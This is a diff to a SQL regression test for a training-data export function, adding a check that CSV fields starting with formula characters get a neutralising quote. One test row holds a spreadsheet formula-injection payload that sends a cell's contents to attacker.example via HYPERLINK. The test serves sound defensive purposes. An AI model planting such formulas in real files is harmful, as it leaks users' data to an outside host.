@@ -92,6 +92,20 @@ FROM export_training_dataset('chat_jsonl') l, LATERAL (SELECT l::jsonb) AS x(j)
 JOIN ai_training_data d ON d.id = (j #>> '{metadata,id}')::uuid
 LIMIT 1;
 
+-- csv: a field that starts with =, +, -, @, TAB or CR would be a formula in
+-- a spreadsheet ("=HYPERLINK(...)" from any logged message): it gets a
+-- leading single quote (OWASP), then the usual quoting; one with such a
+-- character elsewhere is left alone. 0.2.0 wrote them as they were.
+INSERT INTO ai_training_data (user_message, detected_intent, ai_response, confidence_score, category, created_at)
+VALUES ('=HYPERLINK("https://attacker.example/?d="&A1,"ver")', 'greeting', '=1+1', 90, '@cat', now() - interval '1 minute'),
+       ('+34 600 000 000', 'greeting', '-', 90, 'formula', now() - interval '50 seconds'),
+       ('-2+3', 'greeting', '@SUM(A1:A2)', 90, 'formula', now() - interval '40 seconds'),
+       (E'\t=1', 'greeting', E'\r=2', 90, 'formula', now() - interval '30 seconds'),
+       ('hola = adiós, +1 @todos', '=greeting', 'ok', 90, 'formula', now() - interval '20 seconds');
+SELECT regexp_replace(substr(l, 38), ',[^,]*$', '') AS neutralised_line
+FROM export_training_dataset('csv') l WHERE l LIKE '%formula%' OR l LIKE '%@cat%';
+DELETE FROM ai_training_data WHERE category IN ('formula', '@cat');
+
 -- Errors.
 SELECT pg_temp.try('SELECT export_training_dataset(''parquet'')') AS bad_format;
 SELECT pg_temp.try('SELECT export_training_dataset(NULL)') AS null_format;
